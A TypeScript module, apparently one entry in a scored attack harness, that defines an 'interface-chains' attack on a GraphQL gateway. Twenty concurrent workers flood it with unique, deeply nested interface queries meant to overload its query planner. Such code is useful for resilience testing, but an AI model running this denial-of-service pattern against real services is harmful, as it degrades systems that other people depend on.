import type { Attack } from './attack.ts';

/** Types that implement the interface of the graph that this attack is made against. */
const TYPES = 60;

/** A graph whose interface leads to itself. */
export const CHAIN_SDL = `
  type Query { shared: Chain! hello: String! }
  interface Chain { id: ID! name: String next: Chain }
  ${Array.from({ length: TYPES }, (_, index) => `type Link${index} implements Chain { id: ID! name: String own${index}: String next: Chain }`).join('\n')}
`;

/** Requests under way at a time. */
const CONCURRENCY = 20;

const MAX_DEPTH = 8;

/** Nests the interface, with fragments on some of its types, so that no two operations are alike. */
function chainOf(index: number): string {
  let text = '{ id name }';
  for (let level = 0; level < 1 + (index % MAX_DEPTH); level += 1) {
    const type = (index * 7 + level * 13) % TYPES;
    text = `{ id ... on Link${type} { own${type} } next ${text} }`;
  }
  return `query Chain${index} { shared ${text} }`;
}

/** Sends operations that chain an interface field, each one new to the planner. */
export const interfaceChains: Attack = {
  name: 'interface-chains',
  point: 2,
  async run({ url }, signal) {
    let sent = 0;
    const work = async (): Promise<void> => {
      while (!signal.aborted) {
        sent += 1;
        const body = JSON.stringify({ query: chainOf(sent) });
        try {
          const response = await fetch(`${url}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json' }, body, signal });
          await response.arrayBuffer();
        } catch {
          // The gateway may refuse the connection; the next operation is sent all the same.
        }
      }
    };
    await Promise.all(Array.from({ length: CONCURRENCY }, work));
  },
};
